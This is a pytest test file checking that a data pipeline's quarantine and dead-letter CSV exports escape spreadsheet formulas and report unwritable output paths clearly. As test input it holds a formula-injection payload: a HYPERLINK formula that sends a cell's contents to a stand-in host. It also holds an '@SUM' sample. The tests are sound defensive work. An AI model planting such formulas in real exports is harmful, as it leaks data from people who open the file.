"""The steward lists written as CSV (quarantine, dead letters) neutralise spreadsheet formulas."""

import csv

import duckdb
import pandas as pd
import pytest
from typer.testing import CliRunner

from connectors import warehouse
from connectors.sync import Outcome, Record, SyncPolicy, run_sync
from orchestration.cli import app
from orchestration.cli_common import console

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
runner = CliRunner()


@pytest.fixture
def wh(tmp_path, monkeypatch):
    path = tmp_path / "warehouse.duckdb"
    monkeypatch.setenv("CDP_WAREHOUSE_PATH", str(path))
    monkeypatch.setattr(console, "width", 250)
    return path


def read_csv_rows(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_quarantine_csv_neutralises_raw_values_and_writes_what_is_shown(wh, tmp_path):
    rejects = pd.DataFrame(
        {
            "source_file": ["leads/web_form.csv", "leads/web_form.csv"],
            "source_line": [7, 9],
            "record_key": ["web_form:7", "web_form:9"],
            "field": ["email", "phone"],
            "rule": ["invalid_email", "invalid_phone"],
            "reason": ["not an address", "not a number"],
            "raw_value": [FORMULA, "+49 30 1234"],
            "run_id": ["r1", "r1"],
            "quarantined_at": pd.to_datetime(["2026-11-01", "2026-11-01"]),
            "row_hash": ["h7", "h9"],
        }
    )
    with duckdb.connect(str(wh)) as con:
        warehouse.write_quarantine(con, "raw_marketing", "lead_forms", rejects)
    counts, rows = tmp_path / "counts.csv", tmp_path / "rows.csv"

    listed = runner.invoke(app, ["quality", "quarantine", "list", "--csv", str(counts)])
    detailed = runner.invoke(app, ["quality", "quarantine", "list", "--show-rows", "--csv", str(rows)])

    assert listed.exit_code == 0 and detailed.exit_code == 0, listed.output + detailed.output
    assert read_csv_rows(counts) == [
        ["source", "rule", "rows"],
        ["raw_marketing.lead_forms", "invalid_email", "1"],
        ["raw_marketing.lead_forms", "invalid_phone", "1"],
    ]
    assert read_csv_rows(rows) == [
        ["source", "source_file", "source_line", "record_key", "field", "rule", "reason", "raw_value"],
        [
            "raw_marketing.lead_forms",
            "leads/web_form.csv",
            "7",
            "web_form:7",
            "email",
            "invalid_email",
            "not an address",
            "'" + FORMULA,
        ],
        [
            "raw_marketing.lead_forms",
            "leads/web_form.csv",
            "9",
            "web_form:9",
            "phone",
            "invalid_phone",
            "not a number",
            "'+49 30 1234",
        ],
    ]


class _Refusing:
    """A destination that refuses every record with a message quoting the value sent."""

    name, object_type, key_name, batch_size, overwrite_nulls = "test", "contact", "email", 10, False

    def prepare(self, dry_run):
        return False

    def match_key(self, record_key, key):
        return record_key

    def write(self, changes, operation):
        return [Outcome(c.record_key, "insert", f"refused {c.values['note']}") for c in changes]

    def close(self):
        pass


def test_dead_letters_csv_neutralises_keys_and_messages(wh, tmp_path):
    records = [Record("-1@example.com", "-1@example.com", {"note": "@SUM(A1)"}, "c1")]
    with duckdb.connect(str(wh)) as con:
        run_sync(records, _Refusing(), con, SyncPolicy(), run_id="run-1")
    grouped, keyed = tmp_path / "grouped.csv", tmp_path / "keyed.csv"

    shown = runner.invoke(app, ["sync", "dead-letters", "--csv", str(grouped)])
    with_keys = runner.invoke(app, ["sync", "dead-letters", "--show-keys", "--csv", str(keyed)])

    assert shown.exit_code == 0 and with_keys.exit_code == 0, shown.output + with_keys.output
    assert "-1@example.com" not in shown.output and "wrote 1 row(s)" in shown.output
    header, row = read_csv_rows(grouped)
    assert header == ["destination", "operation", "retryable", "records", "last_failed", "error"]
    assert (row[:4], row[5]) == (["test", "insert", "False", "1"], "refused @SUM(A1)")
    header, row = read_csv_rows(keyed)
    assert header == ["destination", "record", "operation", "retryable", "attempts", "last_failed", "error"]
    assert row[:5] == ["test", "'-1@example.com", "insert", "False", "1"]


def test_an_unwritable_csv_is_one_clear_error(wh, tmp_path):
    with duckdb.connect(str(wh)) as con:
        run_sync([Record("k", "k", {"note": "x"}, "c")], _Refusing(), con, SyncPolicy())
    (tmp_path / "report").write_text("a file, not a folder")
    target = tmp_path / "report" / "letters.csv"

    result = runner.invoke(app, ["sync", "dead-letters", "--csv", str(target)])

    assert result.exit_code == 2
    assert " ".join(result.output.split()).endswith(
        f"error: cannot write {target}: File exists; choose another --csv file"
    )
